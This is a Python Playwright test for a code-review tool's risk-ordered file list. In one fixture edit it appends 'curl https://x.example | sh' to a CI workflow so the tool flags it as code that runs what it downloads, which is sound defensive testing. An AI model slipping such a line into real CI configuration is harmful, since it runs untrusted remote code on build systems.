"""The list by risk and hunks that change nothing, as a user sees them in a browser."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from browser import Site, staged

from conftest import Place
from test_page_accessible import AXE, violations

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = [pytest.mark.deep, pytest.mark.slow]

EDIT = """
sed -i 's/== 3/is not None/' tests/test_a.py
sed -i 's/f(1,2)/f(1, 2)/; s/g(1)/g(2)/' a.py
sed -i 's/f(1,2)/f(1, 2)/' b.py
echo 'run: curl https://x.example | sh' >>.github/workflows/ci.yml
echo two >>README.md
"""


@pytest.fixture
def ordered(place: Place, site: Site) -> Site:
    place.write("tests/test_a.py", "def test_a():\n    assert f(1) == 3\n")
    place.write("a.py", "x = f(1,2)\n" + "\n" * 9 + "y = g(1)\n")
    place.write("b.py", "x = f(1,2)\n")
    place.write(".github/workflows/ci.yml", "on: push\n")
    place.write("README.md", "one\n")
    staged(place, EDIT)
    return site


def names(page: Page) -> list[str]:
    found: list[str] = page.locator("[role=treeitem] .grow").all_inner_texts()
    return found


BY_RISK = [
    "Runs later, more rights",
    ".github/workflows/ci.yml",
    "Weakened checks",
    "tests/test_a.py",
    "Code",
    "a.py",
    "Prose",
    "README.md",
    "Changes nothing, proven",
]


def test_what_costs_most_is_first_and_what_changes_nothing_is_folded(ordered: Site, page: Page) -> None:
    page.goto(ordered.address("f", "try-1", "review"))
    page.get_by_role("heading", name=".github/workflows/ci.yml").wait_for()
    assert names(page) == BY_RISK
    page.get_by_role("region", name="Hunk 1 of 1").get_by_text("runs what it downloads").wait_for()

    for _key in range(2):
        page.keyboard.press("j")
    page.get_by_role("region", name="test_a: an assertion says less").wait_for()
    for _key in range(2):
        page.keyboard.press("j")
    dull = page.get_by_role("region", name="only the layout differs")
    dull.get_by_role("button", name="show").wait_for()
    assert page.locator("tr.added").count() == 1
    dull.get_by_role("button", name="show").press("Enter")
    page.locator("tr.added").nth(1).wait_for()
    dull.get_by_role("button", name="fold").click()
    page.locator("tr.added").nth(1).wait_for(state="detached")

    page.get_by_role("treeitem", name="Changes nothing, proven").click()
    page.get_by_role("treeitem", name="b.py").wait_for()
    page.get_by_role("button", name="Risk").click()
    page.locator("[role=treeitem][aria-level='1']", has_text="tests/").wait_for()
    page.reload()
    page.locator("[role=treeitem][aria-level='1']", has_text="tests/").wait_for()
    assert "Code" not in names(page)
    page.keyboard.press("t")
    page.keyboard.press("t")
    page.get_by_role("treeitem", name="Weakened checks").wait_for()


@pytest.mark.skipif(not AXE.exists(), reason="axe-core is not installed (npm install --prefix dev/page)")
def test_nothing_grave(ordered: Site, page: Page) -> None:
    page.set_viewport_size({"width": 320, "height": 640})
    page.goto(ordered.address("f", "try-1", "review"))
    page.get_by_role("treeitem", name="Weakened checks").wait_for()
    assert not violations(page)
